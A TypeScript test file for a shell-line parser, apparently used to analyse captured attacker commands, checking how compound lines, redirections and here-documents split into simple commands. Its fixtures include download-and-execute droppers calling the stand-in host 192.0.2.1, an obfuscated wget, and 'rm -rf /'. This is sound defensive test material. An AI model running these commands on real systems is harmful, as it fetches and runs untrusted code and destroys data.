import assert from "node:assert/strict";
import { test } from "node:test";
import { readShell } from "../../gateway/evidence/shell-words.ts";
import { simpleCommands } from "../../gateway/evidence/simple-commands.ts";
import type { ByteString } from "../../gateway/model/bytes.ts";

const commands = (text: string) => simpleCommands(text as ByteString);
const words = (text: string) => commands(text).map((one) => one.words.join(" "));

/** Line, and its simple commands with the words joined by blanks. */
const LINES: readonly (readonly [line: string, ...commands: string[]])[] = [
  [
    "cd /tmp; wget http://192.0.2.1/a -O a && chmod +x a; ./a &",
    "cd /tmp",
    "wget http://192.0.2.1/a -O a",
    "chmod +x a",
    "./a",
  ],
  ["cat /proc/cpuinfo | grep name | wc -l", "cat /proc/cpuinfo", "grep name", "wc -l"],
  ["(cd /; ls) || { echo no; }", "cd /", "ls", "echo no"],
  ["for i in 1 2; do\n echo $i\ndone", "echo $i"],
  ["if ! test -f x; then rm x; else id; fi", "test -f x", "rm x", "id"],
  ["while true; do sleep 1; done &", "true", "sleep 1"],
  ["case $1 in\n a|b) echo ab;;\n *) echo other;;\nesac; id", "echo ab", "echo other", "id"],
  ['x=`uname -m` y="$(id -u; whoami)" env', "env", "uname -m", "id -u", "whoami"],
  [
    "echo $(cat <(curl http://192.0.2.1/x))",
    "echo $(cat <(curl http://192.0.2.1/x))",
    "cat <(curl http://192.0.2.1/x)",
    "curl http://192.0.2.1/x",
  ],
  [
    "sh -c 'wget -q \"http://192.0.2.1/b c\"; ./b'",
    'sh -c wget -q "http://192.0.2.1/b c"; ./b',
    "wget -q http://192.0.2.1/b c",
    "./b",
  ],
  [String.raw`$'\x77get' htt"p:"//192.0.2.1/\c # not; this`, "wget http://192.0.2.1/c"],
  ["/bin/busybox ECCHI; echo 'a;b|c' \"d && e\"", "/bin/busybox ECCHI", "echo a;b|c d && e"],
  ["cat > f <<E\nrm -rf /; $(id)\nE\nls", "cat", "ls"],
  ["f() { ls; }; f", "f", "ls", "f"],
  ["echo $((1+2)) ${x:-;}", "echo $((1+2)) ${x:-;}"],
  ["echo a\\\nb", "echo ab"],
  [""],
];

test("a compound line is cut into its simple commands", () => {
  for (const [line, ...expected] of LINES) assert.deepEqual(words(line), expected, line);
});

test("redirections, assignments, pipes and here-documents are told apart from words", () => {
  const [one, two] = commands("A=1 B='x y' cat <<'E' 2>/dev/null >> out | sh -s >&2\nbody $x\nE\n");
  assert.deepEqual(one?.assignments, [
    { name: "A", value: "1" },
    { name: "B", value: "x y" },
  ]);
  assert.deepEqual(one.redirects, [
    { operator: "<<", target: "E", fd: 0, body: "body $x\n" },
    { operator: ">", target: "/dev/null", fd: 2 },
    { operator: ">>", target: "out", fd: 1 },
  ]);
  assert.deepEqual([one.piped, two?.piped, two?.redirects[0]?.operator], [false, true, ">&"]);
  assert.deepEqual(
    commands("echo $x; echo x; eval 'echo y'").map(({ exact, depth }) => [exact, depth]),
    [
      [false, 0],
      [true, 0],
      [true, 0],
      [true, 1],
    ],
  );
});

test("a shell would wait for more where something is open, and only there", () => {
  const open = [
    "'",
    '"a',
    "echo `id",
    "echo $(id",
    "cat << E\nx",
    "cat << E",
    "ls |",
    "a &&",
    "a ||\n",
    "a \\",
    "a \\\n",
  ];
  const nested = [
    "for i in 1 2",
    "for i in 1\ndo\necho",
    "if true; then",
    "{ ls",
    "(ls",
    "case x in",
    "while :; do (a); b",
  ];
  const done = [
    "",
    "ls",
    "ls &",
    "cat << E\nx\nE",
    "for i in 1; do a; done",
    "if a; then b; fi",
    "{ ls; }",
    "(ls)",
    "echo if",
  ];
  const closed = [
    "echo 'a\nb'",
    "case x in a) b;; esac",
    "# it's",
    "a;",
    "echo done",
    "f() { a; }",
    "echo $(a\nb)",
  ];
  for (const text of [...open, ...nested]) assert.equal(readShell(text).open, true, text);
  for (const text of [...done, ...closed]) assert.equal(readShell(text).open, false, text);
});

test("whatever the bytes are, it does not throw, nor take long, nor give without end", () => {
  let seed = 7;
  const random = (below: number) => (seed = (seed * 48271) % 2147483647) % below;
  const pieces = [
    "$(",
    "`",
    '"',
    "'",
    "(",
    ")",
    "{",
    "}",
    "<<E",
    "\n",
    "\\",
    "|",
    ";",
    "&",
    "if ",
    "case ",
    "$'",
    "${",
    "<(",
    " ",
    "x",
    "\0",
    "\xff",
  ];
  for (let round = 0; round < 3000; round++) {
    let text = "";
    for (let length = random(40); length > 0; length--) text += pieces[random(pieces.length)] ?? "";
    commands(text);
  }
  for (const piece of [...pieces, "a;", "sh -c '", "$(a ", "cat<<E\n", 'x"$(', "eval "]) {
    const found = commands(piece.repeat(1_500_000 / piece.length));
    assert.ok(found.length <= 10_000, piece);
  }
});
